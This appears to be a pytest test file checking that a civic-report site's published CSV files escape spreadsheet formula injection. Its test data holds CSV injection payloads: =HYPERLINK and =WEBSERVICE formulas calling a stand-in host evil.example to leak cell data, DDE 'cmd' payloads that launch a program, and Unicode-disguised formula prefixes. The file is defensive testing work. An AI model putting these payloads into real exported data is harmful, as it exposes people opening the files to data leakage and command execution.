"""Open data that is safe to open: no CSV cell the site writes runs as a formula.

Each hostile cell of the privacy issue goes through a real sync into both
published CSVs, which are then read back with the csv module as a
spreadsheet would read them.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from factories import make_record, new_site, records, write_jsonl

from lapor_site.cli import main
from lapor_site.csvsafe import FORMULA_STARTS, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    '=WEBSERVICE("http://evil.example/")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",  # fullwidth equals sign: NFKC makes it "="
    " \u2007@x",
    "\u200b=1+1",  # a zero-width space before the formula
]
HARMLESS = ["Jalan rusak", "< 3", "12", "2026-03-02T09:15:00+08:00", "", "Rp 1.500.000", "x=1"]


def spreadsheet_would_run(cell: str) -> bool:
    """What a spreadsheet does with a cell: strips what it ignores, looks at the first char."""
    import unicodedata

    text = unicodedata.normalize("NFKC", cell).lstrip(" \u00a0\u2007\u200b")
    return bool(text) and text[0] in FORMULA_STARTS


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_are_neutralised(cell: str) -> None:
    assert spreadsheet_would_run(cell)
    safe = safe_cell(cell)
    assert safe == "'" + cell  # the original text is kept after the apostrophe
    assert not spreadsheet_would_run(safe)


@pytest.mark.parametrize("cell", HARMLESS)
def test_ordinary_cells_are_unchanged(cell: str) -> None:
    assert safe_cell(cell) == cell


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_every_published_csv_is_safe(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LAPOR_SITE_SECRET", "csv-test-secret")
    rows = records(20)
    for n, cell in enumerate(HOSTILE):
        rows.append(
            make_record(
                tracking_id=f"CSV-{n}", title=cell, category=cell, district=cell, agency=cell
            )
        )
    site = new_site(tmp_path / "site")
    data = write_jsonl(tmp_path / "input.jsonl", rows)
    assert main(["update", "--site", str(site), "--input", str(data)]) == 0
    published = sorted((site / "output" / "data").glob("*.csv"))
    names = [p.name for p in published]
    assert names[:2] == ["kasus.csv", "kecamatan-kategori.csv"]
    # Every table of the open data (lapor_site/opendata.py), hostile labels included.
    assert "statistik-instansi.csv" in names and all(
        n.startswith("statistik-") for n in names[2:]
    ), names
    cells_seen = 0
    for path in published:
        for row in read_csv(path):
            for cell in row:
                cells_seen += 1
                assert not spreadsheet_would_run(cell), (path.name, cell)
    titles = [row[6] for row in read_csv(site / "output" / "data" / "kasus.csv")[1:]]
    assert '\'=WEBSERVICE("http://evil.example/")' in titles
    assert cells_seen > 100
